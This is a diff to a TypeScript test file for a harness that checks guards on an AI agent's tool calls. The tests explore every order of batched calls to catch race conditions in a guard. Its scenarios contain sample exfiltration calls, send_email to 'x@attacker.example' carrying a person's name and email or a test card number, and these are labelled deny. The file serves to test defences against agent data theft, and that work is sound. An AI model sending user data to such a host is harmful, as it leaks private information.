@@ -5,6 +5,8 @@ import type { CallOutcome, CallRef, ToolCall } from '../../src/core/types.js';
 import { builtinGuard } from '../../src/harness/guards.js';
 import type { GuardDecision, GuardUnderTest } from '../../src/harness/guards.js';
 import type { CallStep, Expectation, Scenario, Step } from '../../src/harness/model.js';
+import { parseInterleaving } from '../../src/harness/interleavings.js';
+import type { Interleaving } from '../../src/harness/interleavings.js';
 import { runModes, runScenarios } from '../../src/harness/runner.js';
 
 const LOC = { file: 'test.yaml', line: 1, col: 1 };
@@ -159,7 +161,7 @@ describe('runner with scripted guards', () => {
   it('a batch shares one turn: all decided, then recorded in declaration order', async () => {
     const log: string[] = [];
     const batch: Step = { kind: 'batch', loc: LOC, path: 'steps[1]', calls: [call('fetch_url', 'allow'), call('crm_lookup', 'allow'), call('send_email', 'deny')] };
-    await runScenarios([scenario('set-5/y', [call('fetch_url', 'allow'), batch, call('crm_lookup', 'allow')])], { guard: fake({ send_email: 'deny' }, log) });
+    await runScenarios([scenario('set-5/y', [call('fetch_url', 'allow'), batch, call('crm_lookup', 'allow')])], { guard: fake({ send_email: 'deny' }, log), explore: false });
     expect(log).toEqual(['decide fetch_url@0', 'record fetch_url@0', 'decide fetch_url@1', 'decide crm_lookup@1', 'decide send_email@1', 'record fetch_url@1', 'record crm_lookup@1', 'decide crm_lookup@2', 'record crm_lookup@2']);
   });
 
@@ -171,5 +173,58 @@ describe('runner with scripted guards', () => {
     const denied: string[] = [];
     await runScenarios([scenario('set-5/z', [code('deny')])], { guard: fake({ run_code: 'deny' }, denied) });
     expect(denied).toEqual(['decide run_code@0']);
+  });
+});
+
+describe('the interleaving explorer', () => {
+  const batchOf = (path: string, calls: CallStep[]): Step => ({ kind: 'batch', loc: LOC, path, calls: calls.map((c, i) => ({ ...c, path: `${path}.batch[${i}]` })) });
+  const BATCH_SCENARIO = scenario('set-5/batch', [
+    batchOf('steps[0]', [call('fetch_url', 'allow', PAGE), call('crm_lookup', 'allow', REC), call('fetch_url', 'allow', { ...PAGE, error: 'timeout' })]),
+    call('send_email', 'deny', { path: 'steps[1]', args: { to: 'x@attacker.example', body: 'Alice Chen, alice.chen@example.com' } }),
+  ]);
+
+  it('the built-in guard shows no race, over every order of a 3-call batch', async () => {
+    const r = await runScenarios([BATCH_SCENARIO], { guard: builtinGuard() });
+    expect(r.totals.race).toBe(0);
+    // A batch's members are concurrent: the send after it sees no EIT → PAT chain.
+    expect(r.scenarios[0]?.steps.map((s) => s.actual)).toEqual(['allow', 'allow', 'allow', 'allow']);
+  });
+
+  it('catches a racy guard, names the order, and the order replays the race', async () => {
+    const r = await runScenarios([BATCH_SCENARIO], { guard: builtinGuard({ racy: true }) });
+    const race = r.scenarios[0]?.steps.find((s) => s.outcome === 'race');
+    expect(race?.interleaving?.batch).toBe('steps[0]');
+    expect(r.totals.race).toBeGreaterThan(0);
+    expect(r.scenarios[0]?.status).toBe('fail');
+    const order = parseInterleaving(race?.interleaving?.order ?? '', 3);
+    expect(order).toBeDefined();
+    const replay = await runScenarios([BATCH_SCENARIO], { guard: builtinGuard({ racy: true }), orders: new Map([['steps[0]', order as Interleaving]]) });
+    const canonical = await runScenarios([BATCH_SCENARIO], { guard: builtinGuard({ racy: true }), explore: false });
+    const i = race?.index as number;
+    expect(replay.scenarios[0]?.steps[i]?.actual).not.toBe(canonical.scenarios[0]?.steps[i]?.actual);
+  });
+
+  // The send in the second batch is labelled deny, so under every order it never completes.
+  it('explores batches inside Code Mode and in several sessions; denied members never complete', async () => {
+    const code: Step = { kind: 'code', loc: LOC, path: 'steps[0]', call: call('run_code', 'allow', { id: 'rc', path: 'steps[0].code' }), calls: [batchOf('steps[0].code.calls[0]', [call('fetch_url', 'allow', PAGE), call('crm_lookup', 'allow', REC)])] };
+    const s = scenario('set-5/mixed', [
+      code,
+      { kind: 'session', loc: LOC, path: 'steps[1]', name: 'second' },
+      batchOf('steps[2]', [call('crm_lookup', 'allow', REC), call('send_email', 'deny', { args: { to: 'x@attacker.example', body: 'card 4111 1111 1111 1111' } }), call('fetch_url', 'allow', PAGE)]),
+    ]);
+    const builtin = await runScenarios([s], { guard: builtinGuard() });
+    expect(builtin.totals.race).toBe(0);
+    const racy = await runScenarios([s], { guard: builtinGuard({ racy: true }) });
+    expect(racy.totals.race).toBeGreaterThan(0);
+  });
+
+  it('samples beyond the limit with a seed, deterministically', async () => {
+    const six = scenario('set-5/six', [batchOf('steps[0]', [call('fetch_url', 'allow', PAGE), call('crm_lookup', 'allow', REC), call('crm_lookup', 'allow', REC), call('fetch_url', 'allow', PAGE), call('crm_lookup', 'allow', REC), call('fetch_url', 'allow', PAGE)])]);
+    const a = await runScenarios([six], { guard: builtinGuard({ racy: true }), explore: { interleavings: 50, seed: 7 } });
+    const b = await runScenarios([six], { guard: builtinGuard({ racy: true }), explore: { interleavings: 50, seed: 7 } });
+    expect(JSON.stringify(a)).toBe(JSON.stringify(b));
+    expect(a.totals.race).toBeGreaterThan(0);
+    expect(a.scenarios[0]?.steps.find((s) => s.outcome === 'race')?.detail).toContain('sampled exploration, seed 7');
+    expect((await runScenarios([six], { guard: builtinGuard(), explore: { interleavings: 50, seed: 7 } })).totals.race).toBe(0);
   });
 });
